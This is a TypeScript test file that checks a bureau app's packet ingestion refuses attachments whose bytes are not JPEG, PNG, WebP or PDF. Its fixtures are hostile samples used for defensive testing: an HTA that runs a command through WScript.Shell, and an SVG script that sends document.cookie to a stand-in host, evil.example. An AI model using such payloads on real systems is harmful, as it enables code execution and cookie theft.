import { createHash, randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import sharp from 'sharp';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createBureauCommand } from '../../electron/cli/bureau/commands.js';
import { openBureau, type BureauContext } from '../../electron/bureau/context.js';
import { dumpBureauDatabase } from '../../electron/bureau/database.js';
import { projectIdForCode } from '../../electron/bureau/ids.js';
import { ingestPacket } from '../../electron/bureau/ingest.js';
import { listBureauChecklistItems } from '../../electron/bureau/repository.js';
import { detectFileKind } from '../../electron/packets/file-kind.js';
import { generateSigningKeyPair, type KeyPairPem } from '../../electron/packets/keys.js';
import type { Officer } from '@shared/domain/index.js';
import { writeWeeklyPacket, type FixtureChange } from '../fixtures/bureau/weekly-packet.js';
import { registeredOfficer, registerOfficerKey, sampleBureau } from '../helpers/bureau.js';
import { useTempDir } from '../helpers/per-test.js';

/**
 * Issue 9 point 4: a packet's attachments are what they claim. Packets signed by the officer's registered
 * key carry "photos" that are a Windows program, an HTA or SVG page, a PNG claiming to be a JPEG, a JPEG
 * named .exe: the bad ones refuse the whole packet (reason attachment_kind) with the database and the
 * bureau's files exactly as before; the good ones are stored under the extension their bytes give.
 */
const NOW = new Date('2026-11-24T10:00:00');
const AT = '2026-11-20T02:00:00.000Z';
const CREATED = '2026-11-23T09:00:00.000Z';

const PE = Buffer.concat([
  Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'),
  Buffer.alloc(0x70),
  Buffer.from('PE\0\0L\x01', 'latin1'),
  Buffer.alloc(64),
]);
const HTA = Buffer.from(
  '<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>',
);
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("http://evil.example/?"+document.cookie)</script></svg>');
const HTML = Buffer.from('<!doctype html><script>alert(document.domain)</script>');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
let JPEG: Buffer;
let PNG: Buffer;
let WEBP: Buffer;

beforeAll(async () => {
  const image = () => sharp({ create: { width: 48, height: 32, channels: 3, background: { r: 200, g: 90, b: 30 } } });
  JPEG = await image().jpeg().toBuffer();
  PNG = await image().png().toBuffer();
  WEBP = await image().webp().toBuffer();
});

const dir = useTempDir('sponsor-desk-attachment-kinds-');
let ctx: BureauContext;
let officer: Officer;
let keys: KeyPairPem;

beforeEach(() => {
  ctx = sampleBureau(dir.file('bureau/bureau.sqlite'), () => NOW);
  officer = registeredOfficer(ctx, '李明', '区经济发展局');
  // The officer's key, registered by a person (not trusted from a first packet): the packets are authentic.
  keys = generateSigningKeyPair();
  registerOfficerKey(ctx, officer, keys, dir);
  mkdirSync(dir.file('in'));
});

afterEach(() => {
  if (ctx.db.open) ctx.db.close();
});

const P1 = () => projectIdForCode('GX-2026-001');
const sha = (data: Buffer) => createHash('sha256').update(data).digest('hex');

interface Attached {
  fileName: string;
  mimeType: string;
  data: Buffer;
  /** Close-off evidence instead of a visit photo. */
  evidence?: boolean;
  /** The record travels, its file does not (the officer's computer no longer had it). */
  withoutFile?: boolean;
}

/** A visit (and a close-off when evidence is attached) with the given attachments, as one signed packet. */
async function packetWith(files: readonly Attached[], extraEntries: { path: string; data: Buffer }[] = []): Promise<string> {
  const visitId = randomUUID();
  const changes: FixtureChange[] = [
    {
      entity: 'visit',
      record: {
        id: visitId,
        projectId: P1(),
        visitedOn: '2026-11-18',
        kind: 'site_visit',
        participants: '',
        summary: '现场查看',
        findings: '',
        followUps: '',
        recordedAt: AT,
        recordedBy: '李明',
      },
    },
  ];
  let eventId: string | null = null;
  if (files.some((f) => f.evidence)) {
    eventId = randomUUID();
    const item = listBureauChecklistItems(ctx.db, { projectId: P1() })[0]!;
    changes.push({
      entity: 'checklist_event',
      record: {
        id: eventId,
        itemId: item.id,
        action: 'close_off',
        effectiveOn: '2026-11-19',
        note: '批复已归档',
        attachmentId: null,
        recordedAt: AT,
        recordedBy: '李明',
      },
    });
  }
  const photos = new Map<string, Buffer>();
  const missing: string[] = [];
  for (const f of files) {
    const id = randomUUID();
    const owner = f.evidence ? { ownerKind: 'checklist_event', ownerId: eventId! } : { ownerKind: 'visit', ownerId: visitId };
    changes.push({
      entity: 'attachment',
      record: {
        id,
        ...owner,
        fileName: f.fileName,
        mimeType: f.mimeType,
        sha256: sha(f.data),
        bytes: f.data.length,
        width: null,
        height: null,
        recordedAt: AT,
      },
    });
    if (f.withoutFile) missing.push(id);
    else photos.set(id, f.data);
  }
  return writeWeeklyPacket(dir.file('in'), {
    officer,
    keys,
    sequence: 1,
    changes,
    photos,
    createdAt: CREATED,
    extraEntries,
    mutate: (p) => (p.missingPhotos = missing),
  });
}

/** Every file under a folder with its SHA-256: what "the bureau's files unchanged" compares. */
function filesUnder(path: string): Record<string, string> {
  if (!existsSync(path)) return {};
  const out: Record<string, string> = {};
  for (const name of readdirSync(path, { recursive: true }).map(String).sort()) {
    const full = join(path, name);
    out[name] = statSync(full).isDirectory() ? 'dir' : sha(readFileSync(full));
  }
  return out;
}

function snapshot() {
  return { db: dumpBureauDatabase(ctx.db), files: filesUnder(ctx.filesDir) };
}

describe('bureau ingest: attachments are what they claim', () => {
  // Functions: the images are made in beforeAll, after this table is built.
  const refused: { kind: string; files: () => Attached[] }[] = [
    {
      kind: 'a Windows program as itself (setup.exe, application/x-msdownload)',
      files: () => [{ fileName: 'setup.exe', mimeType: 'application/x-msdownload', data: PE }],
    },
    { kind: 'a Windows program named site.jpg, claimed image/jpeg', files: () => [{ fileName: 'site.jpg', mimeType: 'image/jpeg', data: PE }] },
    { kind: 'an HTA page (photo.hta, application/hta)', files: () => [{ fileName: 'photo.hta', mimeType: 'application/hta', data: HTA }] },
    { kind: 'an HTA page named site.jpg, claimed image/jpeg', files: () => [{ fileName: 'site.jpg', mimeType: 'image/jpeg', data: HTA }] },
    { kind: 'an SVG with a script (site.svg, image/svg+xml)', files: () => [{ fileName: 'site.svg', mimeType: 'image/svg+xml', data: SVG }] },
    { kind: 'an SVG claimed image/png', files: () => [{ fileName: 'site.png', mimeType: 'image/png', data: SVG }] },
    {
      kind: 'a PNG named site.jpg and claimed image/jpeg (the MIME type does not match the bytes)',
      files: () => [{ fileName: 'site.jpg', mimeType: 'image/jpeg', data: PNG }],
    },
    { kind: 'an HTML page as close-off evidence', files: () => [{ fileName: '批复.html', mimeType: 'text/html', data: HTML, evidence: true }] },
    { kind: 'a PDF as a visit photo', files: () => [{ fileName: 'site.pdf', mimeType: 'application/pdf', data: PDF }] },
    {
      kind: 'a Windows program after a good JPEG in the same packet (the JPEG written first is removed)',
      files: () => [
        { fileName: 'a.jpg', mimeType: 'image/jpeg', data: JPEG },
        { fileName: 'b.jpg', mimeType: 'image/jpeg', data: PE },
      ],
    },
    {
      kind: 'the record of a Windows program whose file did not travel',
      files: () => [{ fileName: 'setup.exe', mimeType: 'application/x-msdownload', data: PE, withoutFile: true }],
    },
  ];

  for (const c of refused) {
    it(`refuses ${c.kind}; the database and the files are unchanged`, async () => {
      const files = c.files();
      const file = await packetWith(files);
      const before = snapshot();
      const r = await ingestPacket(ctx, file);
      expect(r.status).toBe('refused');
      expect(r.error).toMatchObject({ code: 'packet_invalid', params: expect.objectContaining({ reason: 'attachment_kind' }) });
      // The reason names the attachment that is not what it claims.
      const bad = files.at(-1)!;
      expect(r.error!.params.file).toBe(bad.fileName);
      expect(r.error!.message).toContain(bad.fileName);
      expect(snapshot()).toEqual(before);
    });
  }

  it('stores good files under the extension their bytes give, never the claimed name’s', async () => {
    const file = await packetWith([
      { fileName: 'site.jpg', mimeType: 'image/png', data: PNG },
      { fileName: 'setup.exe', mimeType: 'image/jpeg', data: JPEG },
      { fileName: 'photo.svg', mimeType: 'image/webp', data: WEBP },
      { fileName: '批复.hta', mimeType: 'application/pdf', data: PDF, evidence: true },
    ]);
    const r = await ingestPacket(ctx, file);
    expect(r.error).toBeNull();
    expect(r).toMatchObject({ status: 'accepted', photosStored: 4 });
    const expected = Object.fromEntries(
      [
        [PNG, 'png'],
        [JPEG, 'jpg'],
        [WEBP, 'webp'],
        [PDF, 'pdf'],
      ].map(([data, ext]) => [`${sha(data as Buffer).slice(0, 2)}/${sha(data as Buffer)}.${ext}`, sha(data as Buffer)]),
    );
    const stored = Object.fromEntries(Object.entries(filesUnder(ctx.filesDir)).filter(([, v]) => v !== 'dir'));
    expect(stored).toEqual(expected);
    expect(ctx.db.prepare('SELECT count(*) FROM attachments WHERE file_stored = 1').pluck().get()).toBe(4);
  });

  it('the CLI refuses the packet with an EXE, names the attachment in Chinese and English, exits 1, and changes nothing', async () => {
    const file = await packetWith([{ fileName: 'site.jpg', mimeType: 'image/jpeg', data: PE }]);
    const before = snapshot();
    ctx.db.close();
    for (const [lang, words] of [
      ['zh_CN.UTF-8', '附件不是本软件生成的文件类型'],
      ['en_US.UTF-8', 'its bytes are not a JPEG, PNG, WebP or PDF file'],
    ] as const) {
      const out: string[] = [];
      const err: string[] = [];
      const code = await createBureauCommand({ now: () => NOW, env: { LANG: lang } }).run(['ingest', file, '--db', dir.file('bureau/bureau.sqlite')], {
        out: (t) => out.push(t),
        err: (t) => err.push(t),
      });
      expect(code).toBe(1);
      expect(err.join('\n')).toContain(words);
      expect(err.join('\n')).toContain('site.jpg');
    }
    ctx = openBureau(dir.file('bureau/bureau.sqlite'), () => NOW);
    expect(snapshot()).toEqual(before);
  });

  it("never extracts or keeps the officer's report.html or ledger.xlsx: only the records are folded", async () => {
    const marker = `<script>alert("${randomUUID()}")</script>`;
    const file = await packetWith(
      [{ fileName: 'site.jpg', mimeType: 'image/jpeg', data: JPEG }],
      [
        { path: 'report.html', data: Buffer.from(`<!doctype html><title>周报</title>${marker}`) },
        { path: 'ledger.xlsx', data: Buffer.from(`PK fake ledger ${marker}`) },
      ],
    );
    const r = await ingestPacket(ctx, file);
    expect(r.error).toBeNull();
    expect(r.status).toBe('accepted');
    // Everything the bureau has on disk (database, key, files), the inbox aside.
    ctx.db.pragma('wal_checkpoint(TRUNCATE)');
    const bureauFiles = readdirSync(dir.file('bureau'), { recursive: true })
      .map(String)
      .filter((name) => statSync(join(dir.file('bureau'), name)).isFile());
    expect(bureauFiles.filter((name) => /\.(html?|hta|svg|xlsx|exe)$/i.test(name))).toEqual([]);
    for (const name of bureauFiles) expect(readFileSync(join(dir.file('bureau'), name)).includes(marker), relative(dir.path, name)).toBe(false);
    expect(
      Object.keys(filesUnder(ctx.filesDir))
        .filter((n) => n.includes('.'))
        .map((n) => n.replace(/^.*\./, '')),
    ).toEqual(['jpg']);
  });

  it('the one byte detector both sides use tells the four kinds and nothing else', () => {
    expect([JPEG, PNG, WEBP, PDF].map((d) => detectFileKind(d)?.ext)).toEqual(['jpg', 'png', 'webp', 'pdf']);
    for (const d of [PE, HTA, SVG, HTML, Buffer.alloc(0), Buffer.from('RIFF\0\0\0\0WAVE'), Buffer.from('GIF89a')]) expect(detectFileKind(d)).toBeNull();
  });
});
